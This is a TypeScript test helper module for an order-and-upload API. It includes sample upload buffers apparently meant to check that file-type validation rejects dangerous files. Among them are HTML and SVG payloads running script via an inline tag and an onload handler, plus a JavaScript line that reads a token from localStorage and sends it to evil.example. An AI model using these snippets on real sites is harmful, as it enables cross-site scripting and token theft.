import {
  OrderCreatedSchema,
  WorkTypeListSchema,
  api,
  referenceApi,
  type OrderCreateRequest,
  type OrderCreated,
  type WorkType,
} from '@cabinet/contract';
import type { FastifyInstance } from 'fastify';
import { randomBytes } from 'node:crypto';
import { expect } from 'vitest';

/** A calendar day this many days after today in Moscow (the deadline's time zone). */
export function dayIn(days: number): string {
  const moscow = new Date(Date.now() + 3 * 60 * 60 * 1000 + days * 24 * 60 * 60 * 1000);
  return moscow.toISOString().slice(0, 10);
}

export async function workTypes(app: FastifyInstance, auth: { authorization: string }): Promise<WorkType[]> {
  const res = await app.inject({ method: 'GET', url: referenceApi.workTypes, headers: auth });
  return WorkTypeListSchema.parse(res.json());
}

export function orderBody(workType: WorkType, over: Partial<OrderCreateRequest> = {}): OrderCreateRequest {
  return {
    work_type_id: workType.id,
    topic: 'Влияние цифровизации на малый бизнес',
    deadline: dayIn(40),
    pages: workType.min_pages,
    originality: 60,
    ...over,
  };
}

export async function placeOrder(
  app: FastifyInstance,
  auth: { authorization: string },
  body: OrderCreateRequest,
): Promise<OrderCreated> {
  const res = await app.inject({ method: 'POST', url: api.orders.root, headers: auth, payload: body });
  expect(res.statusCode, res.body).toBe(201);
  return OrderCreatedSchema.parse(res.json());
}

/** Staff move orders along the lifecycle; tests do it in the database. */
export async function setStatus(app: FastifyInstance, id: number, statusId: number): Promise<void> {
  await app.database.db.updateTable('orders').set({ status_id: statusId }).where('id', '=', id).execute();
}

export const samples = {
  pdf: Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
  // A whole 1×1 image: the type check reads the header chunk after the signature.
  png: Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  ),
  docx: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), randomBytes(64)]),
  txtUtf8: Buffer.from('Методичка: оформление по ГОСТ 7.32-2017.\nПоля 2 см.\n', 'utf8'),
  // «Привет» in CP1251: not UTF-8, still text.
  txtCp1251: Buffer.from([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2, 0x0d, 0x0a]),
  exe: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(16), randomBytes(64)]),
  elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), randomBytes(64)]),
  html: Buffer.from('<!doctype html>\n<html><body><h1>Отчёт</h1><script>alert(1)</script></body></html>\n'),
  svg: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>\n'),
  xml: Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<doc><p>Текст</p></doc>\n'),
  js: Buffer.from(
    'const token = localStorage.getItem("token");\nfetch("https://evil.example/?t=" + token);\n',
  ),
};

export interface UploadFile {
  name: string;
  content: Buffer;
  type?: string;
}

/** A multipart/form-data request body with the files under the field `file`. */
export function multipart(files: UploadFile[]) {
  const boundary = `----cabinet${randomBytes(8).toString('hex')}`;
  const chunks: Buffer[] = [];
  for (const f of files) {
    chunks.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${f.name}"\r\n` +
          `Content-Type: ${f.type ?? 'application/octet-stream'}\r\n\r\n`,
      ),
      f.content,
      Buffer.from('\r\n'),
    );
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return {
    payload: Buffer.concat(chunks),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}
